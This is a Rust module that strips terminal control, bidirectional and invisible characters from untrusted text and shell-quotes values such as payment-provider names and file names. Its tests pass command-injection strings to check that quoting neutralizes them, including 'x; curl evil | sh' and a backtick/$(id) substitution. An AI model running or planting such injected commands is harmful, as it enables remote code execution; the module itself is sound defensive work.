//! Text from outside made harmless for those who read it: on a terminal, in a log, in a command to type.
//!
//! Whoever wrote it (`CookiePay`, a stranger who posts, a file name) must not be able to move the cursor, to begin
//! a line of ours, to show a text in another order than it has, or to end a word of a command.

use std::borrow::Cow;

/// Characters that can move a terminal's cursor, break a line, reorder what a reader sees, or cannot be seen: C0,
/// DEL, C1, line and paragraph separators, bidirectional controls, zero-width characters, fillers and tags.
pub(crate) fn is_harmful(character: char) -> bool {
    character.is_control()
        || matches!(
            character,
            '\u{AD}'
                | '\u{61C}'
                | '\u{115F}'
                | '\u{1160}'
                | '\u{180E}'
                | '\u{200B}'..='\u{200F}'
                | '\u{2028}'..='\u{202E}'
                | '\u{2060}'..='\u{206F}'
                | '\u{3164}'
                | '\u{FEFF}'
                | '\u{FFA0}'
                | '\u{FFF9}'..='\u{FFFB}'
                | '\u{E0000}'..='\u{E0FFF}'
        )
}

/// Whether the text could hold a harmful character, told from its bytes alone: C0 and DEL are bytes of their own,
/// the others begin with one of few bytes in UTF-8. Hangul syllables begin with none of them, so nearly every text
/// is let through without a look at its characters.
///
/// Looks at all bytes without stopping, which the compiler turns into a few wide instructions.
pub(crate) fn may_be_harmful(text: &[u8]) -> bool {
    text.iter().fold(false, |found, &byte| {
        found | (byte < 0x20 || matches!(byte, 0x7f | 0xc2 | 0xd8 | 0xe1..=0xe3 | 0xef | 0xf3))
    })
}

/// The text as one line without characters that a terminal would obey or a reader cannot see.
#[must_use]
pub fn printable(text: &str) -> Cow<'_, str> {
    if may_be_harmful(text.as_bytes()) && text.chars().any(is_harmful) {
        Cow::Owned(text.chars().filter(|&character| !is_harmful(character)).collect())
    } else {
        Cow::Borrowed(text)
    }
}

/// The text as one word of a command that is shown to be typed.
#[must_use]
pub fn shell_word(text: &str) -> Cow<'_, str> {
    let text = printable(text);
    let plain = |character: char| character.is_alphanumeric() || "/._-+,@:\\".contains(character);
    if !text.is_empty() && text.chars().all(plain) {
        text
    } else {
        Cow::Owned(format!("'{}'", text.replace('\'', r"'\''")))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_harmful_character_escapes_the_look_at_bytes() {
        let missed: Vec<char> = ('\0'..=char::MAX)
            .filter(|&character| is_harmful(character) && !may_be_harmful(character.to_string().as_bytes()))
            .collect();
        assert!(missed.is_empty(), "{missed:?}");
        assert!(!may_be_harmful("아메리카노 Coffee 4,500원".as_bytes()));
    }

    #[test]
    fn control_bidirectional_and_invisible_characters_and_line_breaks_are_dropped() {
        assert_eq!(printable("a\u{1b}[31mb\u{9b}c\u{202e}d\r\n"), "a[31mbcd");
        assert_eq!(printable("홍\u{200b}길\u{feff}동\u{2028}!\u{3164}\u{2066}\u{e0041}"), "홍길동!");
        assert!(matches!(printable("아메리카노"), Cow::Borrowed(_)));
    }

    #[test]
    fn a_value_in_a_command_to_type_stays_one_word() {
        assert_eq!(shell_word("/home/a/config.toml"), "/home/a/config.toml");
        assert_eq!(shell_word("11월-수강료"), "11월-수강료");
        assert_eq!(shell_word("/home/a b/it's"), r"'/home/a b/it'\''s'");
        assert_eq!(shell_word("x; curl evil | sh"), "'x; curl evil | sh'");
        assert_eq!(shell_word("x`id`$(id)\n&"), "'x`id`$(id)&'");
        assert_eq!(shell_word(""), "''");
    }
}
